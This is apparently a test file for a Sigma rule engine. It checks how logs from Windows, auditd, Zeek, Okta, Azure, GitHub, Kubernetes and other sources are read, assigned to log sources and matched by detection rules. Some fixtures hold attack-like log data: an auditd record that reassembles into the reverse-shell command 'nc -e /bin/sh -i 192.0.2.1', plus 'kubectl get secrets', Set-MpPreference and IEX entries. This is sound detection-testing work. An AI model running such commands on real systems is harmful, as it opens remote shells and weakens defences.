/** Records of other people's logs, as they write them: which rules of Sigma's folders are for them, and what lists hold. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { logsourceApplies } from '../../../src/engine/sigma/logsource.ts';
import type { Logsource } from '../../../src/model/log-event.ts';
import { readLines } from '../parse/reading.ts';
import { eventWith, ruleOf } from './rule-of.ts';

const AT = '2026-11-20T08:00:00Z';

function eventOf(record: object) {
  const [event] = readLines('json', [JSON.stringify(record)]).events;
  assert.ok(event, 'the record is read');
  return event;
}

function matches(detection: string, record: object): boolean {
  const { fields, raw } = eventOf(record);
  return ruleOf(detection).matches(eventWith(fields, raw));
}

describe('an element of a list is a value of its own', () => {
  const group = {
    eventTime: AT,
    tags: ['prod', 'Web'],
    ports: [22, 8080],
    requestParameters: {
      ipPermissions: {
        items: [
          { ipProtocol: 'tcp', ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }, { cidrIp: '10.0.0.0/8' }] } },
          { ipProtocol: 'udp' },
        ],
      },
    },
    target: [{ type: 'User', id: 7 }, { type: 'AppInstance' }],
  };
  const rows: readonly (readonly [detection: string, holds: boolean])[] = [
    ['s: {tags: web}', true],
    ['s: {tags|startswith: We}', true],
    ['s: {tags|contains: prod}', true],
    ['s: {tags: [a, prod]}', true],
    ["s: {tags: 'prod, Web'}", false],
    ['s: {tags|re: ^Web$}', true],
    ['s: {tags|contains|all: [prod, web]}', true],
    ['s: {tags: null}', false],
    ['s: {tags|exists: true}', true],
    ['s: {ports|gt: 8000}', true],
    ['s: {ports|lt: 22}', false],
    ['s: {ports: 22}', true],
    ['s: {target.type: appinstance}', true],
    ['s: {target.id: 7}', true],
    ['s: {target.type: Group}', false],
    ["s: {requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'}", true],
    ['s: {requestParameters.ipPermissions.items.ipProtocol: udp}', true],
  ];
  for (const [detection, holds] of rows)
    test(`${detection} ${holds ? 'matches' : 'does not match'}`, () => {
      assert.equal(matches(`${detection}\ncondition: s`, group), holds);
    });
});

describe('one element of a list, by its number', () => {
  const record = {
    eventTime: AT,
    args: ['kubectl', 'get', 'secrets'],
    containers: [{ name: 'app' }, { name: 'side', ports: [{ port: 80 }, { port: 443 }] }],
    'labels.k8s': [{ v: 1 }, { v: 2 }],
    counts: { 0: 'none' },
  };
  const rows: readonly (readonly [detection: string, holds: boolean])[] = [
    ['s: {args.0: kubectl}', true],
    ['s: {args.1: kubectl}', false],
    ["s: {'args[2]|startswith': SECRET}", true],
    ['s: {args.3|exists: false}', true],
    ['s: {containers.1.name: side}', true],
    ['s: {containers.0.name: side}', false],
    ['s: {containers.1.ports.1.port|gt: 400}', true],
    ["s: {'containers[1].ports[0].port|gt': 400}", false],
    ['s: {containers.0.ports.0.port: null}', true],
    ['s: {labels.k8s.1.v: 2}', true],
    ['s: {counts.0: none}', true],
    ['s: {containers.0|exists: true}', true],
    ['s: {containers.2|exists: true}', false],
    ['s: {args.constructor.0|exists: true}', false],
  ];
  for (const [detection, holds] of rows)
    test(`${detection} ${holds ? 'matches' : 'does not match'}`, () => {
      assert.equal(matches(`${detection}\ncondition: s`, record), holds);
    });
});

test('an empty object is there, and has no value', () => {
  const record = { eventTime: AT, responseElements: {}, request: { headers: {} } };
  assert.ok(matches('s: {responseElements|exists: true}\ncondition: s', record));
  assert.ok(matches('s: {request.headers|exists: true}\ncondition: s', record));
  assert.ok(matches('s: {responseElements: null}\ncondition: s', record));
  assert.ok(!matches("s: {responseElements: '*'}\ncondition: s", record));
});

// As evtx_dump writes an event of classic PowerShell, whose texts have no names.
test('the text of an element of XML that became an object goes by the name of the element', () => {
  const record = {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'PowerShell' } },
        EventID: { '#attributes': { Qualifiers: 0 }, '#text': 600 },
        TimeCreated: { '#attributes': { SystemTime: AT } },
        Channel: 'Windows PowerShell',
      },
      EventData: {
        Data: { '#text': ['Environment', 'Started', 'HostApplication=powershell.exe & {Set-MpPreference}'] },
        Binary: null,
      },
    },
  };
  assert.ok(matches('s: {Data|contains: Set-MpPreference, EventID: 600}\ncondition: s', record));
  assert.ok(matches('s: {Data: started}\ncondition: s', record));
});

describe('what log a record is of', () => {
  const rows: Readonly<Record<string, readonly [record: object, logsource: Logsource]>> = {
    Okta: [
      { published: AT, eventType: 'user.account.lock', actor: { id: '1', alternateId: 'a@example.org' } },
      { product: 'okta', service: 'okta' },
    ],
    'Azure, what administrators did': [
      {
        time: AT,
        operationName: 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE',
        category: 'Administrative',
      },
      { product: 'azure', service: 'activitylogs' },
    ],
    'Azure, logins': [
      { time: AT, operationName: 'Sign-in activity', category: 'SignInLogs', resultType: '50126' },
      { product: 'azure', service: 'signinlogs' },
    ],
    'Microsoft 365': [
      { CreationTime: '2026-11-20T08:00:00', Workload: 'AzureActiveDirectory', Operation: 'Add member.' },
      { product: 'm365', service: 'audit' },
    ],
    "Google's cloud": [
      {
        timestamp: AT,
        protoPayload: { '@type': 'type.googleapis.com/google.cloud.audit.AuditLog', methodName: 'x' },
      },
      { product: 'gcp', service: 'gcp.audit' },
    ],
    GitHub: [
      { '@timestamp': Date.parse(AT), _document_id: 'x', action: 'repo.destroy', actor: 'alice' },
      { product: 'github', service: 'audit' },
    ],
    Kubernetes: [
      { apiVersion: 'audit.k8s.io/v1', requestReceivedTimestamp: AT, verb: 'create' },
      { category: 'application', product: 'kubernetes', service: 'audit' },
    ],
    "Zeek's requests": [
      {
        ...{ _path: 'http', ts: Date.parse(AT) / 1000, 'id.orig_h': '192.0.2.1', method: 'GET' },
        ...{ uri: '/', status_code: 200 },
      },
      { category: 'webserver', product: 'zeek', service: 'http' },
    ],
    "Zeek's DNS": [
      { _path: 'dns', ts: Date.parse(AT) / 1000, 'id.orig_h': '192.0.2.1', query: 'example.org' },
      { category: 'dns', product: 'zeek', service: 'dns' },
    ],
    'a process, in the words of ECS': [
      {
        ...{ '@timestamp': AT, event: { category: ['process'], type: ['start'] } },
        ...{ host: { os: { type: 'linux' } }, process: { executable: '/usr/bin/nc' } },
      },
      { category: 'process_creation', product: 'linux' },
    ],
    'a connection, in the words of ECS': [
      {
        ...{ '@timestamp': AT, event: { category: ['network'], type: ['connection', 'start'] } },
        ...{ host: { os: { type: 'windows' } }, destination: { port: 4444 } },
      },
      { category: 'network_connection', product: 'windows' },
    ],
    'Sysmon for Linux': [
      { '@timestamp': AT, Channel: 'Linux-Sysmon/Operational', EventID: 1, Image: '/usr/bin/nc' },
      { category: 'process_creation', product: 'linux', service: 'sysmon' },
    ],
    // As in OpenCanary's documentation of its log.
    OpenCanary: [
      {
        ...{ dst_host: '192.0.2.9', dst_port: 22, local_time: '2026-11-20 09:00:00.000000' },
        ...{ logdata: { USERNAME: 'root', PASSWORD: 'x' }, logtype: 4002, node_id: 'opencanary-1' },
        ...{ src_host: '192.0.2.1', src_port: 4000, utc_time: '2026-11-20 08:00:00.000000' },
      },
      { category: 'application', product: 'opencanary' },
    ],
    "Bitbucket's audit": [
      {
        ...{ timestamp: { epochSecond: Date.parse(AT) / 1000, nano: 0 }, source: '192.0.2.1' },
        auditType: {
          ...{ action: 'User login failed', category: 'Authentication', area: 'SECURITY' },
          actionI18nKey: 'bitbucket.service.user.audit.action.userloginfailed',
        },
      },
      { product: 'bitbucket', service: 'audit' },
    ],
    "Confluence's audit": [
      {
        timestamp: { epochSecond: Date.parse(AT) / 1000, nano: 0 },
        auditType: { action: 'Space removed', actionI18nKey: 'audit.logging.summary.space.removed' },
      },
      {},
    ],
    OneLogin: [
      { created_at: AT, account_id: 1, event_type_id: 3, actor_user_id: 7, ipaddr: '192.0.2.1' },
      { product: 'onelogin', service: 'onelogin.events' },
    ],
    "Google's workspace, in the audit of its cloud": [
      {
        timestamp: AT,
        protoPayload: {
          ...{
            '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
            serviceName: 'admin.googleapis.com',
          },
          metadata: { event: [{ eventName: 'GRANT_ADMIN_PRIVILEGE' }] },
        },
      },
      { product: 'gcp', service: 'google_workspace.admin' },
    ],
    'nothing that is known': [{ time: AT, operationName: 'x', category: 'Own' }, {}],
  };
  for (const [name, [record, logsource]] of Object.entries(rows))
    test(name, () => {
      const event = eventOf(record);
      assert.deepEqual(event.logsource, logsource);
      assert.equal(event.time, Date.parse(AT));
    });
});

describe('which log of Windows a channel is', () => {
  const rows: readonly (readonly [channel: string, id: number, service: string | null, category?: string])[] =
    [
      ['Security', 4673, 'security'],
      ['Security', 4688, 'security', 'process_creation'],
      ['Windows PowerShell', 400, 'powershell-classic', 'ps_classic_start'],
      ['Windows PowerShell', 800, 'powershell-classic', 'ps_classic_script'],
      ['PowerShellCore/Operational', 4104, 'powershell', 'ps_script'],
      ['Microsoft-Windows-PowerShell/Operational', 4103, 'powershell', 'ps_module'],
      ['Microsoft-Windows-Sysmon/Operational', 13, 'sysmon', 'registry_set'],
      ['Microsoft-Windows-AppLocker/EXE and DLL', 8004, 'applocker'],
      ['Microsoft-Windows-AppXDeploymentServer/Operational', 401, 'appxdeployment-server'],
      ['Microsoft-Windows-DNS Client Events/Operational', 3008, 'dns-client'],
      ['Microsoft-Windows-LSA/Operational', 300, 'lsa-server'],
      ['Microsoft-Windows-CAPI2/Operational', 70, 'capi2'],
      ['Microsoft-Windows-LDAP-Client/Debug', 30, 'ldap'],
      ['Microsoft-Windows-PrintService/Admin', 808, 'printservice-admin'],
      ['Microsoft-Windows-VHDMP/Operational', 1, 'vhdmp'],
      ['Microsoft-IIS-Configuration/Operational', 29, 'iis-configuration'],
      ['Microsoft-ServiceBus-Client/Admin', 40300, 'servicebus-client'],
      ['MSExchange Management', 1, 'msexchange-management'],
      ['microsoft-windows-windows defender/operational', 1116, 'windefend', 'antivirus'],
      ['Microsoft-Windows-Windows Defender/Operational', 5007, 'windefend'],
      ['Microsoft-Windows-SmbClient/Connectivity', 30803, 'smbclient-connectivity'],
      ['Microsoft-Windows-Of-Its-Own/Operational', 1, null],
    ];
  for (const [channel, id, service, category] of rows)
    test(`${channel}, ${id}`, () => {
      const record = {
        '@timestamp': AT,
        Event: { System: { Channel: channel, EventID: id, Computer: 'pc' } },
      };
      const own = { ...(service !== null && { service }), ...(category !== undefined && { category }) };
      assert.deepEqual(eventOf(record).logsource, { product: 'windows', ...own });
    });
  test('a channel of somebody else is none of Windows', () => {
    assert.deepEqual(eventOf({ '@timestamp': AT, Channel: 'general', EventID: 7 }).logsource, {});
  });
});

test('what Defender found is told in the words of rules for any antivirus', () => {
  const record = {
    '@timestamp': AT,
    Event: {
      System: { Channel: 'Microsoft-Windows-Windows Defender/Operational', EventID: 1116 },
      EventData: {
        'Threat Name': 'Trojan:Win32/CryptInject!MSR',
        Path: 'file:_C:\\Users\\x\\AppData\\Local\\Temp\\svchost.exe',
      },
    },
  };
  assert.ok(logsourceApplies({ category: 'antivirus' }, eventOf(record).logsource));
  assert.ok(logsourceApplies({ product: 'windows', service: 'windefend' }, eventOf(record).logsource));
  assert.ok(
    matches('s: {Signature|contains: CryptInject, Filename|endswith: svchost.exe}\ncondition: s', record),
  );
  assert.ok(matches('s: {ThreatName|contains: CryptInject}\ncondition: s', record));
});

describe("fields of Windows' events, as Sigma spells them", () => {
  const system = { Channel: 'System', EventID: 1, Execution: { '#attributes': { ProcessID: 7 } } };
  const rows: readonly (readonly [detection: string, event: object])[] = [
    ['s: {ThreatName: x}', { System: system, EventData: { 'Threat Name': 'X' } }],
    ["s: {'Threat Name': x}", { System: system, EventData: { 'Threat Name': 'X' } }],
    ['s: {SAMUserAccount: x}', { System: system, EventData: { 'SAM User Account': 'x' } }],
    ['s: {Execution_ProcessID: 7}', { System: system }],
    [
      's: {Execution_ProcessID: 7}',
      { System: { ...system, Execution: undefined, Execution_attributes: { ProcessID: 7 } } },
    ],
    ['s: {SubjectUserName: x}', { System: system, UserData: { LogFileCleared: { SubjectUserName: 'x' } } }],
    ['s: {Data|contains: iex}', { System: system, EventData: { Data: ['a', 'IEX x'] } }],
  ];
  for (const [detection, Event] of rows)
    test(`${detection} of ${JSON.stringify(Event)}`, () => {
      assert.ok(matches(`${detection}\ncondition: s`, { '@timestamp': AT, Event }));
    });
});

test("Sigma's words for the network take in what tells of it", () => {
  const rows: readonly (readonly [wanted: Logsource, actual: Logsource, applies: boolean])[] = [
    [
      { service: 'connection' },
      { category: 'network_connection', product: 'windows', service: 'sysmon' },
      true,
    ],
    [{ service: 'connection' }, { product: 'zeek', service: 'conn' }, true],
    [{ service: 'connection' }, { category: 'firewall', product: 'cisco' }, true],
    [{ service: 'connection', product: 'zeek' }, { category: 'firewall', product: 'cisco' }, false],
    [{ service: 'connection' }, { category: 'dns', product: 'zeek', service: 'dns' }, false],
    [{ service: 'dns' }, { category: 'dns', product: 'zeek', service: 'dns' }, true],
    [{ service: 'dns' }, { category: 'dns_query', product: 'windows', service: 'sysmon' }, true],
    [{ service: 'dns' }, { product: 'zeek', service: 'conn' }, false],
    [{ service: 'other' }, { category: 'network', service: 'other' }, true],
    [{}, { category: 'network_connection' }, false],
  ];
  for (const [wanted, actual, applies] of rows)
    assert.equal(
      logsourceApplies({ category: 'network', ...wanted }, actual),
      applies,
      JSON.stringify(actual),
    );
});

test('the audit tells a program that begins in two records: rules for processes see it once, with its arguments', () => {
  const head = (serial: number) => `msg=audit(1795161610.000:${serial}):`;
  const { events } = readLines('auditd', [
    `type=SYSCALL ${head(430)} arch=c000003e syscall=59 success=yes ppid=1 pid=2 auid=1000 uid=0 ses=7 comm="nc" exe="/usr/bin/nc.openbsd" key="x"`,
    `type=EXECVE ${head(430)} argc=4 a0="nc" a1="-e" a2=2F62696E2F7368202D69 a3="192.0.2.1"`,
    `type=EXECVE ${head(431)} argc=1 a0="id"`,
  ]);
  assert.deepEqual(
    events.map(({ logsource: { category }, fields: { Image, CommandLine, ParentProcessId } }) => [
      ...[category, Image, CommandLine, ParentProcessId],
    ]),
    [
      [undefined, undefined, undefined, undefined],
      ['process_creation', '/usr/bin/nc.openbsd', 'nc -e /bin/sh -i 192.0.2.1', '1'],
      // Another event's program is not taken for its own.
      ['process_creation', 'id', 'id', undefined],
    ],
  );
});
